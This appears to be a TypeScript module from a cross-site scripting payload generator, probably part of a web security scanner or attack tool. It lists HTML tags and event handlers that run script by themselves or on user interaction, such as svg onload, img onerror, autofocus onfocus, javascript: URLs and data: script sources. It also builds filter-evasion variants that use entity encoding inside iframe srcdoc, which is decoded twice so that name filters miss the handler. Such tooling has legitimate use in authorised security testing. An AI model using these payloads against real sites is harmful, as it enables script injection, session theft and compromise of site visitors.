/** Elements that run a script by themselves, or once a visitor does something with them. */
import type { Call } from './calls.ts'

/** How the parts of a tag are put together. */
export interface Style {
  /** Between name and attributes. */
  readonly space: string
  /** What ends a tag whose last attribute is a call: a bracket, or what lets the page's next one do so. */
  readonly close: string
  /** Names of elements, attributes and schemes as they are sent. */
  readonly dressed: (name: string) => string
}

export interface Vector {
  readonly tag: string
  /** The attribute that holds the script; null where it is the content. */
  readonly event: string | null
  /** Runs without any act of the visitor. */
  readonly itself: boolean
  readonly write: (call: Call, style: Style) => string
}

const vector = (tag: string, event: string, before: string, itself = true, content = ''): Vector => ({
  tag,
  event,
  itself,
  write: ({ written }, { space, close, dressed }) =>
    `<${dressed(tag)}${before
      .split(' ')
      .filter((one) => one !== '')
      .map((one) => `${space}${one}`)
      .join('')}${space}${dressed(event)}=${written}${close}${content}`,
})

const addressed = (tag: string, attribute: string, itself: boolean, content = ''): Vector => ({
  tag,
  event: 'javascript:',
  itself,
  write: ({ written }, { space, close, dressed }) =>
    `<${dressed(tag)}${space}${attribute}=${dressed('javascript')}:${written}${close}${content}`,
})

const script: Vector = {
  tag: 'script',
  event: null,
  itself: true,
  write: ({ written }, { dressed }) => `<${dressed('script')}>${written}</${dressed('script')}>`,
}

/** For most places, the shortest first, and no two after another alike in name or event. */
export const VECTORS: readonly Vector[] = [
  vector('svg', 'onload', ''),
  vector('img', 'onerror', 'src=x'),
  script,
  vector('details', 'ontoggle', 'open'),
  vector('input', 'onfocus', 'autofocus'),
  addressed('iframe', 'src', true),
  vector('video', 'onerror', 'src=x'),
  vector('xss', 'onfocus', 'autofocus tabindex=1'),
  vector('body', 'onload', ''),
  vector('marquee', 'onstart', ''),
  {
    tag: 'iframe',
    event: 'srcdoc',
    itself: true,
    write: ({ code }, { space, close, dressed }) =>
      `<${dressed('iframe')}${space}${dressed('srcdoc')}=&lt;svg/onload=${code}&gt;${close}`,
  },
  // Decoded twice: no filter of names sees the event.
  {
    tag: 'iframe',
    event: null,
    itself: true,
    write: ({ code }, { space, close, dressed }) =>
      `<${dressed('iframe')}${space}srcdoc=&lt;svg/&#111;nload=${code}&gt;${close}`,
  },
  {
    tag: 'iframe',
    event: null,
    itself: true,
    write: ({ code }, { space, close, dressed }) => `<${dressed('iframe')}${space}src=java&#115;cript:${code}${close}`,
  },
  vector('p', 'oncontentvisibilityautostatechange', 'style=display:block;content-visibility:auto'),
  vector('svg><animate', 'onbegin', 'attributeName=x dur=1s'),
  vector('style', 'onload', ''),
  vector('link', 'onerror', 'rel=stylesheet href=x'),
  vector('audio', 'onerror', 'src=x'),
  vector('iframe', 'onload', ''),
  vector('object', 'onerror', 'data=x'),
  {
    tag: 'script',
    event: 'src',
    itself: true,
    write: ({ written }, { space, dressed }) =>
      `<${dressed('script')}${space}src=data:,${written}></${dressed('script')}>`,
  },
  addressed('a', 'href', false, 'test</a>'),
  vector('p', 'onclick', '', false, 'test'),
  addressed('form><button', 'formaction', false, 'test'),
  vector('p', 'onmouseover', '', false, 'test'),
]

/** Where nothing but frames may stand. */
export const FRAMES: readonly Vector[] = [addressed('frame', 'src', true), vector('frameset', 'onload', '')]

export interface Handler {
  /** Attributes that have to stand before. */
  readonly before: string
  readonly event: string
  /** What stands before the call in its value. */
  readonly scheme?: string
  readonly itself: boolean
}

/** Attributes that run a script on an element that is there already; `tag` is its name. */
export const attributesFor = (tag: string): readonly Handler[] => [
  ...(tag === 'script' ? [{ before: '', event: 'src', scheme: 'data:text/javascript,', itself: true }] : []),
  ...(tag === 'iframe' || tag === 'frame' ? [{ before: '', event: 'src', scheme: 'javascript:', itself: true }] : []),
  ...(LOADING.has(tag) ? [{ before: '', event: 'onload', itself: true }] : []),
  ...(FAILING.has(tag) ? [{ before: 'src=x', event: 'onerror', itself: true }] : []),
  ...(tag === 'input' ? [{ before: 'type=image src=x', event: 'onerror', itself: true }] : []),
  ...(tag === 'details' ? [{ before: 'open', event: 'ontoggle', itself: true }] : []),
  ...(tag === 'marquee' ? [{ before: '', event: 'onstart', itself: true }] : []),
  { before: 'autofocus tabindex=1', event: 'onfocus', itself: true },
  {
    before: 'style=display:block;content-visibility:auto',
    event: 'oncontentvisibilityautostatechange',
    itself: true,
  },
  // What is hidden still has a key.
  { before: 'accesskey=x', event: 'onclick', itself: false },
  { before: '', event: 'onmouseover', itself: false },
]
const LOADING: ReadonlySet<string> = new Set(['body', 'frameset', 'iframe', 'frame', 'svg', 'style', 'link'])
const FAILING: ReadonlySet<string> = new Set(['img', 'script', 'video', 'audio', 'embed', 'image'])
